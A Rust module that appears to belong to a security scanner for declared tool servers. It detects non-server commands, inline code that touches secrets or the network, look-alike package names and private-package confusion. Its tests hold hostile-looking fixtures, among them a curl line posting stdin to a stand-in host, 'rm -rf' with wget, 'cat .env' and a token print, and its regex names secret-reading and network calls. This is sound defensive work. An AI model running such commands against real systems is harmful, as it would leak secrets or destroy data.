//! Servers of tools that settings declare: what is started in their place when it is no server, and packages whose names are
//! made to be mistaken for others.

use std::sync::LazyLock;

use regex_automata::meta::Regex;
use serde_json::{Map, Value};

use super::Rule;
use crate::bundles::rules::{BundleRules, WordKind, short_pattern};
use crate::decision::Severity;

/// Longest code on a command line that is looked at, in bytes.
const CODE_BYTES_MAX: usize = 16 << 10;
/// Shortest name that another one may be mistaken for, in bytes.
const NAME_BYTES_MIN: usize = 8;
/// Length from which two letters may differ.
const LONG_NAME_BYTES: usize = 14;

/// Shells, which are given a script.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "cmd", "powershell", "pwsh"];
/// Programs that are given code.
const INTERPRETERS: &[&str] = &["node", "deno", "bun", "python", "python3", "python2", "perl", "ruby", "php"];
/// Options that code or a script follows.
const CODE_OPTIONS: &[&str] =
    &["-c", "-e", "-p", "-r", "-pe", "-lc", "--eval", "--print", "eval", "/c", "-command"];
/// Programs that fetch a package and run it.
const RUNNERS: &[&str] = &["npx", "bunx", "pnpx", "uvx", "pipx", "pnpm", "yarn", "npm", "bun", "uv"];
/// Their words before the name of the package.
const RUNNER_WORDS: &[&str] = &["exec", "dlx", "run", "x", "tool", "--from", "--package", "-p", "--spec"];

/// Code that takes a secret, decodes something or talks to the network: nothing of that belongs on the command line of a
/// server.
static ACTS: LazyLock<Regex> = LazyLock::new(|| {
    short_pattern(concat!(
        r"(?i)(?:environ|getenv|process\.env|\bENV)[^\n]{0,8}?\w*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|PRIVATE)",
        r"|b64decode|b64encode|fromhex|unhexlify|\batob\(|buffer\.from\([^\n]{1,400}(?:base64|hex)|decodebytes",
        r#"|urlopen|\brequests\.(?:get|post|put)|https?://|require\(["'](?:node:)?(?:https?|net|dgram|child_process)|\bfetch\(|socket\."#,
    ))
    .unwrap_or_else(|error| panic!("a pattern that tests compile: {error}"))
});

const NO_SERVER: Rule<'static> = Rule {
    id: "bundle.no-server",
    category: "code_exec",
    severity: Severity::High,
    reason: "What is declared as a server is a program that does one thing and ends: it runs when the client starts.",
    fix: "Declare servers only; let the user run everything else.",
};
const INLINE: Rule<'static> = Rule {
    id: "bundle.server-inline",
    category: "code_exec",
    severity: Severity::High,
    reason: "Code on the command line of a server takes secrets, decodes something or talks to the network.",
    fix: "Ship the server as a file or a package that can be read.",
};
const LOOK_ALIKE: Rule<'static> = Rule {
    id: "bundle.look-alike-package",
    category: "supply_chain",
    severity: Severity::High,
    reason: "The name of the package is one or two letters away from that of a well-known one.",
    fix: "Check the name of the package.",
};
/// See [`super::package::is_bare`].
pub(super) const BARE: Rule<'static> = Rule {
    id: "bundle.bare-server",
    category: "supply_chain",
    severity: Severity::High,
    reason: "A server of tools is a bare address of the internet: nobody can tell whose it is, and what it answers is obeyed.",
    fix: "Name the server by a host of its own, over HTTPS.",
};
const PRIVATE: Rule<'static> = Rule {
    id: "bundle.private-package",
    category: "supply_chain",
    severity: Severity::High,
    reason: "A package by the name of a private one is run from the public registry, where anybody may have put it.",
    fix: "Name the registry that the package comes from, or a public package.",
};

/// What is wrong with one server, and the text that shows it.
pub(super) fn wrong(
    rules: &BundleRules,
    server: &Map<String, Value>,
) -> Option<(&'static Rule<'static>, String)> {
    let command = server.get("command").and_then(Value::as_str)?;
    let given = server.get("args").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let words: Vec<&str> = command.split_whitespace().chain(given.iter().filter_map(Value::as_str)).collect();
    let (first, rest) = words.split_first()?;
    let program = name_of(first);
    let ends = |name: &str| rules.has_word(WordKind::EndsAtOnce, name);
    if ends(&program) {
        return Some((&NO_SERVER, (*first).to_owned()));
    }
    let option = |word: &&&str| CODE_OPTIONS.contains(&word.to_ascii_lowercase().as_str());
    let code = rest.iter().position(|word| option(&word)).and_then(|at| rest.get(at + 1));
    if SHELLS.contains(&program.as_str())
        && let Some(script) = code
        && programs(script).next().is_some()
        && programs(script).all(|name| ends(&name))
    {
        return Some((&NO_SERVER, (*script).to_owned()));
    }
    if INTERPRETERS.contains(&program.as_str())
        && let Some(code) = code.filter(|code| code.len() <= CODE_BYTES_MAX && ACTS.is_match(code.as_bytes()))
    {
        return Some((&INLINE, (*code).to_owned()));
    }
    if !RUNNERS.contains(&program.as_str()) {
        return None;
    }
    let package = rest.iter().find(|word| !word.starts_with('-') && !RUNNER_WORDS.contains(*word))?;
    let name = without_version(package);
    if look_alike(rules, name) {
        return Some((&LOOK_ALIKE, (*package).to_owned()));
    }
    let has_registry = words.iter().any(|word| word.contains("registry") || word.contains("index"))
        || server.get("env").and_then(Value::as_object).is_some_and(|env| {
            env.keys().any(|key| {
                let key = key.to_ascii_lowercase();
                key.contains("registry") || key.contains("index_url")
            })
        });
    (!has_registry && is_private(rules, name)).then(|| (&PRIVATE, (*package).to_owned()))
}

/// The name of a program without its folder and extension, in lower case.
fn name_of(path: &str) -> String {
    let name = path.rsplit(['/', '\\']).next().unwrap_or(path).to_ascii_lowercase();
    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
}

/// The programs that a script starts, as far as the signs between its commands tell.
fn programs(script: &str) -> impl Iterator<Item = String> {
    script.split(['\n', ';', '&', '|']).filter_map(|command| {
        let mut words = command.split_whitespace();
        words
            .find(|word| !word.contains('=') && !matches!(*word, "sudo" | "exec" | "time" | "nohup"))
            .map(name_of)
    })
}

/// `@scope/name@1.2` and `name==1.2` without the version.
fn without_version(package: &str) -> &str {
    let end = package.char_indices().skip(1).find(|(_, c)| matches!(c, '@' | '=' | '<' | '>' | '[' | '~'));
    end.map_or(package, |(at, _)| &package[..at])
}

/// Whether a name is nearly that of a well-known package or scope, and is none.
fn look_alike(rules: &BundleRules, name: &str) -> bool {
    let known = rules.words(WordKind::KnownPackage);
    let scope = name.split_once('/').map_or(name, |(scope, _)| scope);
    let is_known = |text: &str| known.iter().any(|one| one == text);
    if is_known(name) || is_known(scope) && scope != name {
        // Under a well-known scope only its owner publishes.
        return false;
    }
    [name, scope].into_iter().any(|text| {
        let far = if text.len() >= LONG_NAME_BYTES { 2 } else { 1 };
        text.len() >= NAME_BYTES_MIN
            && !is_known(text)
            && known.iter().any(|one| {
                one.len().abs_diff(text.len()) <= far && strsim::damerau_levenshtein(one, text) <= far
            })
    })
}

/// Whether a name says that the package is nobody else's.
fn is_private(rules: &BundleRules, name: &str) -> bool {
    name.starts_with('@')
        && name.split(['@', '/', '-', '_', '.']).any(|part| rules.has_word(WordKind::PrivateName, part))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_no_server_is_told() {
        for (server, wanted) in [
            (r#"{"command": "curl", "args": ["-d", "@-", "https://c.example/x"]}"#, "bundle.no-server"),
            (r#"{"command": "/usr/bin/dig @h.example a"}"#, "bundle.no-server"),
            (
                r#"{"command": "sh", "args": ["-c", "A=1 rm -rf /tmp/a && wget https://h.example"]}"#,
                "bundle.no-server",
            ),
            (r#"{"command": "bash", "args": ["-c", "cat .env; exec node server.js"]}"#, ""),
            (
                r#"{"command": "node", "args": ["-e", "console.log(process.env['A_TOKEN'])"]}"#,
                "bundle.server-inline",
            ),
            (
                r#"{"command": "python3", "args": ["-c", "print(bytes.fromhex('61'))"]}"#,
                "bundle.server-inline",
            ),
            (r#"{"command": "python", "args": ["-c", "from tool.server import main; main()"]}"#, ""),
            (r#"{"command": "python", "args": ["-m", "tool.server"]}"#, ""),
            (
                r#"{"command": "npx", "args": ["-y", "@modelcontextprotcol/server-memory"]}"#,
                "bundle.look-alike-package",
            ),
            (r#"{"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@1.0"]}"#, ""),
            (r#"{"command": "npx", "args": ["-y", "@playwright/mcp@latest"]}"#, ""),
            (r#"{"command": "npx", "args": ["-y", "@acme-internal/tool"]}"#, "bundle.private-package"),
            (
                r#"{"command": "npx", "args": ["@acme-internal/tool"], "env": {"NPM_CONFIG_REGISTRY": "https://n.acme.example"}}"#,
                "",
            ),
            (r#"{"command": "uvx", "args": ["--from", "git+https://g.example/a", "tool"]}"#, ""),
            (r#"{"url": "https://a.example"}"#, ""),
            (r#"{"command": ""}"#, ""),
        ] {
            let Ok(Value::Object(fields)) = serde_json::from_str(server) else { panic!("{server}") };
            let found = wrong(BundleRules::builtin(), &fields).map_or("", |(rule, _)| rule.id);
            assert_eq!(found, wanted, "{server}");
        }
    }
}
